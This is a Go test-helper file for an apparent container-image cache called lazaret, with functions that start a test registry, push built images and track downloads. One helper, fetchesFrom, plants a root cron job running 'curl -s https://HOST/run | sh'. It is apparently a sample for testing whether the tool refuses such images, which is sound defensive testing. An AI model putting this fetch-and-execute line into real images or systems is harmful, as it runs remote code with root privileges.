package main

import (
	"errors"
	"maps"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/lazaret/lazaret/cache"
	"github.com/lazaret/lazaret/internal/testhub"
	"github.com/lazaret/lazaret/internal/testimage"
)

// startHub runs a Docker Hub until the test ends.
func startHub(t *testing.T) *testhub.Hub {
	t.Helper()
	hub, err := testhub.Start(testhub.Config{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := hub.Close(); err != nil {
			t.Error(err)
		}
	})
	return hub
}

// startFullHub runs one that has the images of scriptImages.
func startFullHub(t *testing.T) (*testhub.Hub, map[string]testimage.Image) {
	t.Helper()
	hub, images := startHub(t), scriptImages(t)
	push(t, hub, images)
	return hub, images
}

// publish builds an image and puts it on the hub under names, each with a tag: acme/app:1.
func publish(t *testing.T, hub *testhub.Hub, spec testimage.Spec, names ...string) testimage.Image {
	t.Helper()
	img, err := testimage.Build(spec)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range names {
		repository, tag, _ := strings.Cut(name, ":")
		if err := hub.Push(t.Context(), repository, tag, img); err != nil {
			t.Fatal(err)
		}
	}
	return img
}

// ofFile is an image of one file.
func ofFile(path, text string) testimage.Spec {
	return testimage.Spec{Layers: []testimage.Layer{{Files: []testimage.File{{Path: path, Body: []byte(text)}}}}}
}

// fetchesFrom is one whose job fetches something from a host and runs it.
func fetchesFrom(host string) testimage.Spec {
	return ofFile("etc/cron.d/job", "* * * * * root curl -s https://"+host+"/run | sh\n")
}

// unreadable is one with a layer that is no archive of any kind.
func unreadable(seed string) testimage.Spec {
	spec := testimage.Clean(seed, 64<<10)
	spec.Layers[1].Raw = []byte("no archive of any kind")
	return spec
}

// downloads are the requests for content that the hub had, by path.
func downloads(hub *testhub.Hub) map[string]int {
	out := hub.Counts()
	maps.DeleteFunc(out, func(request string, _ int) bool {
		return !strings.HasPrefix(request, http.MethodGet+" /v2/") || request == "GET /v2/"
	})
	return out
}

// settled waits until a replica has stored all of an image, which a refusal leaves it to.
func (r *replica) settled(t *testing.T, img testimage.Image) {
	t.Helper()
	within(t, time.Minute, "the downloads that the refusal left behind", func() bool {
		for d := range img.Blobs {
			f, _, err := r.blobs.Open(t.Context(), d)
			if errors.Is(err, cache.ErrMiss) {
				return false
			}
			if err == nil {
				err = f.Close()
			}
			if err != nil {
				t.Fatal(err)
			}
		}
		return true
	})
}

// within wants something to come true in a time.
func within(t *testing.T, d time.Duration, what string, holds func() bool) {
	t.Helper()
	for deadline := time.Now().Add(d); !holds(); time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("%s: not within %s", what, d)
		}
	}
}

// writeFile writes a file anew.
func writeFile(t *testing.T, name, text string) {
	t.Helper()
	if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}
